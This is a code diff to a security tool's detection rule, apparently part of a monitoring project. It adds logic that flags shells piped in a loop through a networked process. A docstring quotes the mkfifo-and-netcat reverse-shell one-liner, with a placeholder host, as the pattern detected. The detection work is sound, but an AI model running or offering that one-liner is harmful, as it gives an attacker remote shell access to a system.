@@ -4,8 +4,9 @@ from __future__ import annotations
 
 from collections.abc import Sequence
 
-from trainguard.api.sample import Connection, Sample, SensorErrorKind
+from trainguard.api.sample import Connection, ProcessInfo, Sample, SensorErrorKind, StdStream
 from trainguard.detection import tools
+from trainguard.detection.endpoints import is_loopback
 from trainguard.detection.rules.base import NOTHING, Rule, RuleInput, connection_evidence, process_evidence
 from trainguard.detection.violation import EvidenceValue, Finding
 
@@ -65,11 +66,42 @@ def _socket_lists_complete(s: Sample) -> bool:
     return s.sensor.reader != "none" and not any(e.kind is SensorErrorKind.CONNECTION_CAP for e in s.sensor.errors)
 
 
+def _piped(st: StdStream | None) -> bool:
+    """A stream a shell can be piped through: a pipe, or a FIFO opened by its path (a `file` to the
+    sensor; device files such as /dev/null, which everything shares, are not)."""
+    return st is not None and (st.kind == "pipe" or (st.kind == "file" and not st.target.startswith("/dev/")))
+
+
+def _relay(s: Sample, p: ProcessInfo) -> Connection | None:
+    """The network connection a shell talks through when its output is the input of a process on the
+    network whose output comes back as the shell's input, directly or through one more process (the
+    mkfifo reverse shell: `cat f | sh -i 2>&1 | nc HOST PORT > f`). Matched on the standard streams'
+    link texts (`pipe:[N]`, a FIFO's path); None when the shell is in no such loop."""
+    if p.stdin is None or p.stdout is None or not _piped(p.stdin) or p.stdout.kind != "pipe":
+        return None
+    readers: dict[str, list[ProcessInfo]] = {}
+    for q in s.processes:
+        if q.stdin is not None and _piped(q.stdin) and q.pid != p.pid:
+            readers.setdefault(q.stdin.target, []).append(q)
+    conns = {c.pid: c for c in s.connections if c.pid is not None and not is_loopback(c.remote.address)}
+    for relay in readers.get(p.stdout.target, ()):
+        c = conns.get(relay.pid)
+        if c is None or relay.stdout is None or not _piped(relay.stdout):
+            continue
+        back = relay.stdout.target
+        # One hop back: a process reading `back` on its stdin, or given it as an argument (`cat f`).
+        hops = [*readers.get(back, ()), *(q for q in s.processes if back in q.argv[1:])]
+        if back == p.stdin.target or any(h.stdout is not None and h.stdout.target == p.stdin.target for h in hops):
+            return c
+    return None
+
+
 def process_reverse_shell(inp: RuleInput) -> Sequence[Finding]:
     """A shell or interpreter whose standard input or output is a network socket: a reverse shell,
     whatever the destination (Falco's "Redirect STDOUT/STDIN to Network Connection in Container");
     and, whatever it is called (a shell copied to another file name), a process whose standard input
-    and output are one and the same network socket. The socket is a network one when its inode is
+    and output are one and the same network socket; and a shell or interpreter piped in a loop through a
+    process on the network (`_relay`: mkfifo + nc). The socket is a network one when its inode is
     one of the pod's sockets with a peer or without, or when the sensor could not give its inode, or
     when the sample's socket lists are incomplete (what cannot be told apart is not excused)."""
     s = inp.sample
@@ -80,6 +112,11 @@ def process_reverse_shell(inp: RuleInput) -> Sequence[Finding]:
     for p in s.processes:
         streams = [(fd, st) for fd, st in (("stdin", p.stdin), ("stdout", p.stdout)) if st and st.kind == "socket"]
         if not streams:
+            if p.stdout is not None and p.stdout.kind == "pipe" and (what := tools.shell_or_interpreter(p)):
+                relayed = _relay(s, p)
+                if relayed is not None:
+                    via = connection_evidence(s, relayed, interpreter=what, relay=relayed.pid)
+                    found.append(Finding(PROCESS_REVERSE_SHELL, f"pid {p.pid}", {**via, **process_evidence(p)}))
             continue
         what = tools.shell_or_interpreter(p)
         if what is None:
